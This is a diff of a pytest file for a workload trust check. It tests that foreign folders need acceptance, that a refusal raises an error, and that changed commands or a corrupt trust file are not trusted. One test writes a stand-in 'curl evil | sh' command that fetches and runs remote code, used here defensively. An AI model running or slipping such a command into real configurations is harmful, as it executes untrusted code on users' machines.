@@ -6,7 +6,8 @@ from pathlib import Path
 
 import pytest
 
-from optimize.trust import commands, is_trusted, remember
+from optimize.errors import WorkloadError
+from optimize.trust import accept, is_trusted
 from optimize.workload import load_workload
 from tests.conftest import SCRIPT
 
@@ -19,25 +20,34 @@ def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     return tmp_path / "theirs"
 
 
+def yes(commands: list[str]) -> bool:
+    return True
+
+
 def test_ours_needs_no_acceptance() -> None:
-    assert is_trusted(load_workload("gpt"))
+    accept(load_workload("gpt"), lambda commands: False)
 
 
 def test_a_foreign_folder_is_accepted_once_and_its_commands_are_shown(folder: Path) -> None:
-    workload = load_workload(str(folder))
-    assert not is_trusted(workload)
-    assert "{python} train.py" in commands(workload)[0]
-    remember(workload)
-    assert is_trusted(load_workload(str(folder)))
+    shown: list[str] = []
+    accept(load_workload(str(folder)), lambda commands: not shown.extend(commands))  # type: ignore[func-returns-value]
+    assert "{python} train.py" in shown[0]
+    accept(load_workload(str(folder)), lambda commands: False)
+
+
+def test_a_no_is_one_line_that_says_how_to_say_yes(folder: Path) -> None:
+    with pytest.raises(WorkloadError, match="--trust"):
+        accept(load_workload(str(folder)), lambda commands: False)
+    assert not is_trusted(load_workload(str(folder)))
 
 
 def test_another_command_line_is_asked_again(folder: Path) -> None:
-    remember(load_workload(str(folder)))
+    accept(load_workload(str(folder)), yes)
     (folder / "workload.toml").write_text('command = ["sh", "-c", "curl evil | sh"]\n')
     assert not is_trusted(load_workload(str(folder)))
 
 
 def test_a_spoilt_memory_is_no_acceptance(folder: Path, tmp_path: Path) -> None:
-    remember(load_workload(str(folder)))
+    accept(load_workload(str(folder)), yes)
     (tmp_path / "config" / "optimize" / "trusted.json").write_text("{")
     assert not is_trusted(load_workload(str(folder)))
